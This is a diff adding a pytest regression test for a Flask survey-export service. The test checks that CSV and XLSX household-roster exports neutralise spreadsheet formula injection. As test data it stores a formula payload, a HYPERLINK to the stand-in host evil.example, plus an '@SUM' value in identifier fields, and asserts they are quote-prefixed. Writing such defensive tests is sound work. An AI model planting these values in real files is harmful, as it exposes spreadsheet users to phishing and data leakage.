@@ -250,3 +250,35 @@ def test_cli_export_writes_masked_csv_and_unmasked_xlsx_owner_only_and_audited(
     assert refused.exit_code != 0 and "form_not_found" in refused.output
     exported = [(e.action, e.actor, e.details["unmasked"]) for e in entries if "export" in e.action]
     assert sorted(exported) == [("export", "cli", False), ("export.unmasked", "cli", True)]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_every_text_cell_that_starts_a_formula_is_prefixed_even_the_fixed_columns(
+    app: Flask, client: FlaskClient, admin_headers: dict[str, str], fmt: str
+) -> None:
+    """Rows stored before the server refused such identifiers still export inert (leak 4)."""
+    with app.app_context():
+        publish_builtins()
+    roster = sample_household(4, village_code=V1)["household_roster"]
+    number, round_ = '=HYPERLINK("http://evil.example/?x","点我")', "@SUM(1+1)"
+    store_household(
+        app, {"household_roster": roster}, village_code=V1, household_no=number, round=round_
+    )
+    if fmt == "csv":
+        tables = [
+            _csv(client.get(f"{URL}/household_roster.csv?sheet={s}", headers=admin_headers))
+            for s in ("main", "members")
+        ]
+    else:
+        response = client.get(f"{URL}/household_roster.xlsx", headers=admin_headers)
+        workbook = load_workbook(io.BytesIO(response.get_data()))
+        tables = [[list(r) for r in ws.values] for ws in workbook.worksheets]
+    main, members = tables
+    row = dict(zip(main[0], main[1], strict=True))
+    assert row["户编号"] == "'" + number and row["调查轮次"] == "'" + round_
+    member = dict(zip(members[0], members[1], strict=True))
+    assert member["户编号"] == "'" + number
+    for table in tables:
+        for cells in table:
+            for cell in cells:
+                assert not (isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r"))
